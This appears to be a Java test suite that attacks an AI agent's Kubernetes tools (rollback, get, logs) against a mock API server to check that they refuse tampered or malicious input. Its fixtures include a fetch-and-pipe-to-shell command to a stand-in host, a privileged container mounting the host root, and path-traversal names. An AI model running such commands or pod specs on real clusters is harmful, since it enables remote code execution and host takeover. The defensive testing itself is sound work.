package dev.cadre.platform.tools.kubernetes;

import static dev.cadre.platform.tools.kubernetes.KubernetesToolsTest.CTX;
import static dev.cadre.platform.tools.kubernetes.KubernetesToolsTest.JSON;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.cadre.agent.FailureCategory;
import dev.cadre.agent.tool.ProposingTool;
import dev.cadre.agent.tool.Tool;
import dev.cadre.agent.tool.ToolException;
import io.fabric8.kubernetes.api.model.ContainerBuilder;
import io.fabric8.kubernetes.api.model.PodBuilder;
import io.fabric8.kubernetes.api.model.VolumeBuilder;
import io.fabric8.kubernetes.api.model.apps.Deployment;
import io.fabric8.kubernetes.api.model.apps.ReplicaSet;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;

/**
 * The Kubernetes tools tried as an attacker would, against fabric8's API server emulator in CRUD mode:
 * a rollback's target ReplicaSet patched after the approval, a template change hidden behind an
 * unchanged image, object names that walk to another path, and a log endpoint answering an object.
 */
class KubernetesToolsAttackTest {

    @TempDir
    Path dir;

    KubernetesMock mock;
    KubernetesAccess access;
    Map<String, Tool> tools;

    @BeforeEach
    void start() throws Exception {
        mock = new KubernetesMock();
        mock.seedCrashLoop();
        access = KubernetesToolsTest.access(mock.writeKubeconfig(dir), Duration.ofSeconds(5));
        tools = KubernetesToolsTest.tools(access);
    }

    @AfterEach
    void stop() {
        access.close();
        mock.close();
    }

    /** Revision 1's ReplicaSet as someone with write access to ReplicaSets would patch it. */
    private void patchRevisionOne(UnaryOperator<ReplicaSet> edit) {
        var rs = mock.client().apps().replicaSets().inNamespace("shop").withName("web-1111");
        rs.edit(edit);
    }

    private static ReplicaSet evil(ReplicaSet rs) {
        var spec = rs.getSpec().getTemplate().getSpec();
        spec.setContainers(List.of(new ContainerBuilder(spec.getContainers().getFirst())
                .withImage("registry.example.invalid/evil:latest")
                .withCommand("/bin/sh", "-c")
                .withArgs("curl -s https://x.example.invalid | sh")
                .withNewSecurityContext()
                .withPrivileged(true)
                .endSecurityContext()
                .build()));
        return rs;
    }

    private String deployedImage() {
        Deployment d = mock.client()
                .apps()
                .deployments()
                .inNamespace("shop")
                .withName("web")
                .get();
        return d.getSpec().getTemplate().getSpec().getContainers().getFirst().getImage();
    }

    @Test
    void rollback_whoseReplicaSetTemplateWasPatchedAfterTheProposal_isRefusedAndNothingIsApplied() throws Exception {
        ProposingTool undo = (ProposingTool) tools.get("k8s_rollout_undo");
        JsonNode proposed =
                undo.propose(JSON.readTree("{\"namespace\":\"shop\",\"deployment\":\"web\",\"toRevision\":1}"), CTX);
        JsonNode bound = proposed.path("observed").path("replicaSet");
        assertThat(bound.path("name").asString()).isEqualTo("web-1111");
        assertThat(bound.path("revision").asInt()).isEqualTo(1);
        assertThat(bound.path("uid").asString()).isNotEmpty();
        assertThat(bound.path("resourceVersion").asString()).isNotEmpty();
        assertThat(bound.path("templateHash").asString()).hasSize(16);
        assertThat(proposed.path("change").asString()).contains("to revision 1 (shop/web:1)");

        patchRevisionOne(KubernetesToolsAttackTest::evil);

        assertThatThrownBy(() -> undo.execute(proposed, CTX)).isInstanceOfSatisfying(ToolException.class, e -> {
            assertThat(e.category()).isEqualTo(FailureCategory.STATE_INCONSISTENCY);
            assertThat(e.code()).isEqualTo("k8s_changed_since_approval");
            assertThat(e.getMessage())
                    .startsWith("ReplicaSet web-1111 (revision 1) changed since the approval (templateHash ")
                    .contains("nothing applied");
        });
        assertThat(deployedImage()).isEqualTo("shop/web:2");
    }

    @Test
    void rollback_proposal_listsEveryPodTemplateDifference_withSecretValuesRedacted() throws Exception {
        patchRevisionOne(rs -> {
            evil(rs);
            var t = rs.getSpec().getTemplate().getSpec();
            var c = t.getContainers().getFirst();
            c.getEnv().getFirst().setValue("9090"); // PORT 8080 → 9090
            c.getEnv().add(new io.fabric8.kubernetes.api.model.EnvVar("DB_PASSWORD", "hunter2-not-shown", null));
            t.setVolumes(List.of(new VolumeBuilder()
                    .withName("host")
                    .withNewHostPath()
                    .withPath("/")
                    .endHostPath()
                    .build()));
            return rs;
        });
        ProposingTool undo = (ProposingTool) tools.get("k8s_rollout_undo");

        JsonNode proposed = undo.propose(JSON.readTree("{\"namespace\":\"shop\",\"deployment\":\"web\"}"), CTX);

        assertThat(proposed.path("change").asString())
                .isEqualTo("Roll back deployment shop/web from revision 2 (shop/web:2) to revision 1"
                        + " (registry.example.invalid/evil:latest)");
        List<String> changes =
                proposed.path("changes").valueStream().map(JsonNode::asString).toList();
        assertThat(changes)
                .contains("image app: shop/web:2 → registry.example.invalid/evil:latest")
                .contains("command app: none → [\"/bin/sh\",\"-c\"]")
                .contains("args app: none → [\"curl -s https://x.example.invalid | sh\"]")
                .contains("env app: PORT: 8080 → 9090, +DB_PASSWORD=[REDACTED], -FEATURE_X")
                .contains("securityContext app: none → {\"privileged\":true}")
                .contains("pod volumes: none → [{\"hostPath\":{\"path\":\"/\"},\"name\":\"host\"}]");
        assertThat(proposed.toString()).doesNotContain("hunter2-not-shown");
        // The words an approver reads: the sentence, every difference, and what is checked at execution.
        ProposingTool.Words words = undo.words(proposed);
        assertThat(words.headline()).isEqualTo(proposed.path("change").asString());
        assertThat(words.details()).containsAll(changes);
        assertThat(words.details().getLast()).contains("ReplicaSet web-1111 (revision 1");
    }

    @Test
    void namesThatWalkToAnotherPath_areRefusedBeforeAnyRequest() throws Exception {
        int before = mock.server().getRequestCount();
        String[][] calls = {
            {"k8s_get", "{\"kind\":\"pods\",\"namespace\":\"shop\",\"name\":\"../../payments/pods/x\"}", "pods name"},
            {
                "k8s_describe",
                "{\"kind\":\"deployment\",\"namespace\":\"shop\",\"name\":\"ledger?x=1\"}",
                "deployment name"
            },
            {"k8s_logs", "{\"namespace\":\"shop\",\"pod\":\"web-1111-aaaaa/../x\"}", "pod name"},
            {
                "k8s_logs",
                "{\"namespace\":\"shop\",\"pod\":\"web-1111-aaaaa\",\"container\":\"app?previous=1\"}",
                "container"
            },
            {"k8s_rollout_history", "{\"namespace\":\"shop\",\"deployment\":\"a..b\"}", "deployment name"},
            {"k8s_get", "{\"kind\":\"pods\",\"namespace\":\"shop/../payments\"}", "namespace"},
        };
        for (String[] c : calls) {
            assertThatThrownBy(() -> tools.get(c[0]).execute(JSON.readTree(c[1]), CTX))
                    .as(c[1])
                    .isInstanceOfSatisfying(ToolException.class, e -> {
                        assertThat(e.code()).isEqualTo("invalid_arguments");
                        assertThat(e.getMessage()).startsWith(c[2] + " '").contains("is not a Kubernetes name");
                    });
        }
        ProposingTool undo = (ProposingTool) tools.get("k8s_rollout_undo");
        assertThatThrownBy(() -> undo.propose(
                        JSON.readTree("{\"namespace\":\"shop\",\"deployment\":\"../../payments/deployments/ledger\"}"),
                        CTX))
                .isInstanceOfSatisfying(
                        ToolException.class, e -> assertThat(e.code()).isEqualTo("invalid_arguments"));
        assertThat(mock.server().getRequestCount())
                .as("nothing reached the API server")
                .isEqualTo(before);
        // The schemas say so too: the model is told the shape of a name.
        assertThat(tools.get("k8s_logs")
                        .parametersSchema()
                        .path("properties")
                        .path("pod")
                        .path("pattern")
                        .asString())
                .isEqualTo("^[a-z0-9]([-a-z0-9]*[a-z0-9])?(\\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*$");
    }

    @Test
    void aLogEndpointAnsweringAnApiObject_neverHandsItsEnvValuesToTheModel() throws Exception {
        String pod = mock.client()
                .getKubernetesSerialization()
                .asJson(new PodBuilder()
                        .withNewMetadata()
                        .withName("ledger")
                        .withNamespace("shop")
                        .endMetadata()
                        .withNewSpec()
                        .addNewContainer()
                        .withName("app")
                        .addNewEnv()
                        .withName("LEDGER_DSN")
                        .withValue("postgres://ledger:s3cr3t@db/ledger")
                        .endEnv()
                        .endContainer()
                        .endSpec()
                        .build());
        mock.server()
                .expect()
                .get()
                .withPath("/api/v1/namespaces/shop/pods/web-1111-aaaaa/log?pretty=false&tailLines=100")
                .andReturn(200, pod)
                .always();

        assertThatThrownBy(() -> tools.get("k8s_logs")
                        .execute(JSON.readTree("{\"namespace\":\"shop\",\"pod\":\"web-1111-aaaaa\"}"), CTX))
                .isInstanceOfSatisfying(ToolException.class, e -> {
                    assertThat(e.code()).isEqualTo("k8s_unexpected_answer");
                    assertThat(e.getMessage()).doesNotContain("s3cr3t").doesNotContain("LEDGER_DSN");
                });
    }
}
